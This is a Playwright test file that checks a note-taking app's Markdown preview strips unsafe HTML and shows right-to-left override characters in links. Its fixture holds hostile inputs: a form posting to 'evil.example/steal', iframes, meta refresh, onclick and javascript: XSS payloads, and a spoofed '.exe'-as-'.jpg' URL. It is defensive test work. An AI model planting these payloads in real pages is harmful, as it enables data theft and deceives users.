// Other people's text and one's own Markdown, rendered without trusting either — through `lectern
// serve`. The note preview keeps only a small allow-list of HTML (no style, forms, inputs,
// buttons, frames, remote images, event handlers); every link opens outside the app; and a
// bidirectional control inside a link or a displayed URL is shown, not obeyed, so
// `https://a.example/` + U+202E + `gpj.exe` cannot pass for a .jpg.
import type { Page } from '@playwright/test'
import { test, expect, drop, rowWith } from './fixtures'

const TITLE = 'A Paper With Links'
const RLO = '\u202E'

/** A dump whose abstract links to a URL with a right-to-left override in it. */
const DUMP = `Daily Papers

Aug 19

${TITLE}

Code at https://a.example/${RLO}gpj.exe and nothing else.
`

/** One pixel, as a data: URL, the only kind of image a note may show. */
const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='

const NOTE = `# Reading notes

<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name="q" value="x"><button>Send</button></form>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/object"></object>
<svg><circle r="5" onclick="alert(1)"/></svg>
<textarea>t</textarea><select><option>o</option></select>
<video src="https://evil.example/v.mp4"></video>
<link rel="stylesheet" href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">

<p onclick="alert(1)" style="color:red" class="app" id="root">A paragraph with handlers.</p>

<img src="https://evil.example/pixel.png" alt="tracker">

<img src="${PIXEL}" alt="dot">

<a href="javascript:alert(1)">js link</a>

- [ ] a task
- [x] a done task

See [the paper](https://a.example/paper), https://a.example/${RLO}gpj.exe and [${RLO}gpj.exe](https://a.example/x).
`

/** Imports the dump and opens its one paper. */
async function openPaper(app: Page) {
  await drop(app, [{ name: 'daily.txt', text: DUMP }])
  await app
    .getByRole('dialog', { name: 'Import preview' })
    .getByRole('button', { name: 'Import 1 paper' })
    .click()
  await expect(app.getByTestId('import-result')).toContainText('1 added')
  await rowWith(app, TITLE).click()
  const detail = app.getByTestId('detail')
  await expect(detail.getByRole('heading', { level: 2, name: TITLE })).toBeVisible()
  return detail
}

/** The messages the page logs about its Content-Security-Policy refusing something. */
function cspRefusals(app: Page): string[] {
  const refused: string[] = []
  app.on('console', (message) => {
    if (/Content.Security.Policy/i.test(message.text())) refused.push(message.text())
  })
  return refused
}

test('the note preview keeps only safe HTML; its links open outside the app', async ({ app }) => {
  const refused = cspRefusals(app)
  const detail = await openPaper(app)
  await detail.getByRole('textbox', { name: 'Note' }).fill(NOTE)
  await expect(detail.getByTestId('note-state')).toHaveText('Saved')
  await detail.getByRole('tab', { name: 'Preview' }).click()
  const preview = detail.getByTestId('note-preview')
  await expect(preview.getByRole('heading', { name: 'Reading notes' })).toBeVisible()

  // Nothing that styles the app, sends a form, takes input, frames or loads something remote.
  await expect(
    preview.locator(
      'style, form, input, button, iframe, object, embed, svg, textarea, select, video, audio, link, meta, base, script',
    ),
  ).toHaveCount(0)
  // No handlers, styles, classes or ids: only what a link, an image or a table cell needs.
  const attributes = await preview.evaluate((root) => [
    ...new Set([...root.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())),
  ])
  expect(attributes.filter((a) => !['href', 'target', 'rel', 'src', 'alt'].includes(a))).toEqual([])
  await expect(preview.getByText('A paragraph with handlers.')).toBeVisible()

  // Images from data: only; a remote one is a link to it instead, fetched only if followed.
  await expect(preview.locator('img')).toHaveCount(1)
  await expect(preview.locator('img')).toHaveAttribute('src', PIXEL)
  await expect(preview.getByRole('link', { name: 'tracker' })).toHaveAttribute(
    'href',
    'https://evil.example/pixel.png',
  )
  // A link to anything but the web is plain text.
  await expect(preview.getByRole('link', { name: 'js link' })).toHaveCount(0)
  await expect(preview).toContainText('js link')
  // Task lists are marks, not checkboxes.
  await expect(preview.getByRole('listitem')).toHaveText(['☐ a task', '☑ a done task'])

  // Every link opens in a new tab or the system browser, with no way back to the app.
  const links = preview.getByRole('link')
  await expect(links).toHaveCount(4)
  for (const link of await links.all()) {
    await expect(link).toHaveAttribute('target', '_blank')
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer')
  }
  // A bidirectional override inside a link is shown, not obeyed, and a link is isolated from
  // any override written around it.
  await expect(links).toHaveText([
    'tracker',
    'the paper',
    'https://a.example/[U+202E]gpj.exe',
    '[U+202E]gpj.exe',
  ])
  expect(await links.evaluateAll((all) => all.map((a) => getComputedStyle(a).unicodeBidi))).toEqual(
    ['isolate', 'isolate', 'isolate', 'isolate'],
  )

  // Following a link leaves the app where it is.
  const appUrl = app.url()
  const [tab] = await Promise.all([
    app.context().waitForEvent('page'),
    preview.getByRole('link', { name: 'the paper' }).click(),
  ])
  await tab.close()
  expect(app.url()).toBe(appUrl)
  await expect(preview).toBeVisible()

  // Nothing in the preview asked to load anything for the CSP to refuse. (Chromium also reports
  // the inline styles and handlers it meets while the note's HTML is parsed to be cleaned; none
  // of them is in the page.)
  expect(refused.filter((message) => /^Refused to (load|frame|connect)/.test(message))).toEqual([])
})

test('a bidirectional override in an abstract’s link is shown, not obeyed', async ({ app }) => {
  const detail = await openPaper(app)
  const link = detail.getByTestId('abstract').getByRole('link')
  await expect(link).toHaveText('https://a.example/[U+202E]gpj.exe')
  // The link still goes where it says.
  await expect(link).toHaveAttribute('href', `https://a.example/${RLO}gpj.exe`)
  await expect(link).toHaveAttribute('target', '_blank')
  expect(await link.evaluate((a) => getComputedStyle(a).unicodeBidi)).toBe('isolate')
})

test('a paper’s links are shown with their bidirectional controls visible', async ({ app }) => {
  await drop(app, [
    {
      name: 'papers.csv',
      text: `title,abstract,url\nA Linked Paper,Plain text.,https://b.example/${RLO}fdp.exe\n`,
    },
  ])
  await app
    .getByRole('dialog', { name: 'Import preview' })
    .getByRole('button', { name: 'Import 1 paper' })
    .click()
  await expect(app.getByTestId('import-result')).toContainText('1 added')
  await rowWith(app, 'A Linked Paper').click()
  const detail = app.getByTestId('detail')
  const link = detail.getByRole('link', { name: /b\.example/ })
  await expect(link).toHaveText('b.example/[U+202E]fdp.exe')
  expect(await link.evaluate((a) => getComputedStyle(a).unicodeBidi)).toBe('isolate')
})
